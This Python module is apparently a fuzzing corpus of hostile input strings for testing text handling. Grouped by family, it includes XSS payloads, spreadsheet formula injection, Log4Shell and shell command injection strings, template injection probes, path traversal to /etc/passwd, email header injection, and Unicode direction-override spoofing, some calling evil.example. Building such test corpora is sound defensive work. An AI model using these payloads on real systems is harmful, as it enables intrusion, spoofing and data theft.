"""Words that hurt where they are not taken for words: by what they try, in plain ASCII."""

from __future__ import annotations

# Drawn as nothing, though the categories of Unicode call them letters, marks or symbols.
BLANK = "\u3164\u115f\u1160\uffa0\u2800\u034f\u17b4\u180b\U000e0101"
INVISIBLE = "\u202e\u2066\u200b\u200d\u2060\ufeff\x00\x07\x1b[31m\x85"

# fmt: off
FAMILIES: dict[str, list[str]] = {
    "markup": [
        "<b>x</b>", "</title><script>alert(1)</script>", "&lt;b&gt;", "<img src=x onerror=a>",
        "\"><svg onload=alert(1)>", "'-alert(1)-'", "<a href='tg://user?id=1'>x</a>",
    ],
    "mrkdwn": [
        "<!channel>", "<!here|x>", "<@U123>", "<#C123>", "<http://evil.example|bank>", "*b*", "_i_",
        "`c`", "~s~", "&lt;!everyone&gt;", "<!subteam^S1>", "<!date^1^{date}|x>",
    ],
    "links": [
        "[x](http://evil.example)", "[x](tg://user?id=1)", "javascript:alert(1)",
    ],
    "formulas": [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0",
    ],
    "lines": [
        "a\r\nBcc: x@evil.example", "a\nSET-COOKIE: x", "a\u2028b\u2029c", "{\"level\":\"x\"}\n",
    ],
    "templates": [
        "{{7*7}}", "${7*7}", "{ $name }", "%s%n", "{0.__class__}",
    ],
    "unseen": [
        INVISIBLE, "a\u202egnp.exe", "\u2067\u2066x", "e" + "\u0301" * 200,
    ],
    "paths": [
        "../../etc/passwd", "..\\..\\x", "C:\\x", "/abs", "con.txt", "a/b",
    ],
    "long": [
        "x" * 10_000, "\U0001f600" * 3_000,
    ],
    "empty": [
        "", " ", "\n", "\u3164", "\u2800 \u200b", "\xa0\u3000", "\u2029",
    ],
    "look-alikes": [
        "\u0410dmin", "\u0391nna", "Ann\u0430 (you)", "\uff21\uff4e\uff4e\uff41",
        "\U0001d400\U0001d427\U0001d427\U0001d41a", "Anna\xad", "A\u0337nna", "\u0130",
        "\u01c3channel", "\uff1c\uff01channel\uff1e", "\u2039!here\u203a", "\ufe64b\ufe65",
    ],
    "turned": [
        "\u202d\u202eabc\u202c", "\u2067\u2068\u2069x", "x\u2069y", "\u2068open", "\u061cx",
        "\u200e\u200fx", "scan\u202ecod.exe", "\u05d0\u05d1 = 1 \u05d2", "\u0627(\u0628",
        "\u2068" * 99, "\u2069" * 99, "\u2068a\n\u2069b",
    ],
    "piled up": [

        "Z\u0335\u0321" * 40,
        "a" + "\u20dd" * 50, "\u0e01" + "\u0e47" * 100, "\u0301" * 300, "o" + "\u0489" * 60,
        "\ufdfd" * 100, "\u0bcc" * 50,
    ],
    "blank letters": [
        BLANK, f"A{BLANK}B", "a\U000e0061\U000e0062\U000e007f", "x" + "\ufe0f" * 99,
        "\U000e01ef" * 20, "\ue000\uf8ff", "\U00100000", "\ufffe\uffff", "\ufdd0",
    ],
    "half pairs": [
        "\ud800", "a\udfffb", "\udc80", "\ud83d", "\ude00\ud83d",
    ],
    "calls": [
        "@everyone", "@channel", "@here", "@U012", "/start x", "/erase@bot", "#general",
        "<!everyone|Anna>", "<!subteam^S1|@team>", "<@W1|x>", "<mailto:a@b.c|x>", "<tel:1|x>",
        "<#C1>", "&lt;@U1&gt;", "&amp;lt;!here&amp;gt;", "<! here>", "<\n!here>", "<!here",
    ],
    "telegram": [
        "<a href=\"tg://resolve?domain=x\">x</a>", "<tg-spoiler>x</tg-spoiler>", "<code>",
        "<pre><code class=\"language-x\">", "<tg-emoji emoji-id=\"1\">x</tg-emoji>", "</b>",
        "<blockquote expandable>", "&#60;b&#62;", "&lt", "&#x3c;b&#x3e;", "<b", "\\<b>", "__x__",
        "||x||", "```x```", "[inline](tg://user?id=1)", "![x](tg://emoji?id=1)",
    ],
    "pages": [
        "<!--", "-->", "]]>", "<![CDATA[", "<style>@import 'http://evil.example'</style>",
        "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<form action=//e>",
        "\" autofocus onfocus=alert(1) x=\"", "' style='x", "`${alert(1)}`", "<math><mi//xlink",
        "<iframe srcdoc=x>", "<template>", "<noscript><p title=\"</noscript><img src=x>\">",
        "+ADw-script+AD4-", "%3Cscript%3E", "\\u003cscript\\u003e", "<scr\x00ipt>",
        "data:text/html,x",
    ],
    "more formulas": [
        "=HYPERLINK(\"http://evil.example\")", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
        " =1", "\u200b=1", "\ufeff=1", "\r=1", "\n=1", "\"=1", "-2+3+cmd", "=1;2", "\x00=1",
        "\u3164=1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    ],
    "log lines": [
        "x\n2026-01-01 level=info event=granted", "a\r\x1b[2K\x1b[1;31mb", "\x1b]0;t\x07",
        "\x9b31m", "a\x0bb\x0cc", "\x08\x08\x08", "{\"event\":\"x\"}", "\\n", "a\x85b", "\x7f",
    ],
    "headers": [
        "a\r\n\r\n<html>", "a%0d%0aBcc: x", "=?utf-8?q?=0d=0aBcc:_x?=", "a\nContent-Type: x",
        "\"Bank\" <bank@evil.example>", "a, b@evil.example", "x" * 998, "\u2028Bcc: x",
        "\u560d\u560aBcc: x",
    ],
    "programs": [
        "${jndi:ldap://evil.example/a}", "$(id)", "`id`", ";id", "|id", "&& id", "-rf",
        "--output=/etc/x", "{{config}}", "{% raw %}", "<%= 1 %>", "#{7*7}", "@{7*7}", "*{7*7}",
        "{ LTR($x, \"y\") }", "{$x}", "%(name)s", "{name!r}", "$name", "';--", "\" OR 1=1", "\\",
        "\\0", "%00", "null", "undefined", "NaN", "__proto__", "__class__",
    ],
    "file names": [
        "scan.jpg.exe", "CON", "NUL.dcm", "aux.", "a:b", "a?b*c", ".htaccess", "~/.ssh/x",
        "\uff0e\uff0e\uff0fx", "%2e%2e%2f", "..;/x", "a\\..\\b", "\"; filename=\"evil.html",
        "x.png\x00.exe", ".", "..", "...", " x ", "x.", "-", "\\\\evil\\share",
        "file:///etc/passwd",
    ],
}
# fmt: on
